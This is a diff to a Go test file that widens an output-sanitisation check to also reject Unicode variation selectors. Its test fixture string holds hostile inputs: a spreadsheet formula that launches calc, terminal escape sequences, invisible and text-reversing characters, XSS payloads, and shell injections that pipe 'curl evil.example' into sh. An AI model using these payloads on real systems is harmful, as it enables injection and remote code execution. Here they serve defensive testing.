@@ -35,7 +35,7 @@ import (
 
 // hostile has one of everything that acts on a reader: a formula, escape sequences in both forms, characters that turn or hide text, all line
 // breaks, the end of a script, and what a shell runs.
-const hostile = "=cmd|' /C calc'!A0\x1b[2J\x1b]0;x\x07\u009b2J\x7f\u202e\u2066\u200f\u061c\u200b\u00ad\u034f\ufeff\U000e0041\x00\r\nFORGED a\rFORGED b\vFORGED c\fFORGED d\u0085FORGED e\u2028FORGED f\u2029FORGED g" +
+const hostile = "=cmd|' /C calc'!A0\x1b[2J\x1b]0;x\x07\u009b2J\x7f\u202e\u2066\u200f\u061c\u200b\u00ad\u034f\ufeff\U000e0041\U000e0100\ufe00\x00\r\nFORGED a\rFORGED b\vFORGED c\fFORGED d\u0085FORGED e\u2028FORGED f\u2029FORGED g" +
 	"\tx;=1+1;\uff1d1          Ready   </script><script>alert(1)</script><img src=x onerror=alert(1)>$(curl evil.example|sh)`curl evil.example`'; curl evil.example | sh #"
 
 // fillHostile sets every text in a value to the hostile one, every list and map to one entry, and every pointer. Types with an encoding of their
@@ -228,7 +228,7 @@ var advised = regexp.MustCompile(`kubectl (?:rollout restart|dgbot describe|get 
 func checkText(t *testing.T, what, text string, isLines bool) {
 	t.Helper()
 	for _, r := range text {
-		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Other_Default_Ignorable_Code_Point) {
+		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector) {
 			t.Errorf("%s writes %U", what, r)
 			break
 		}
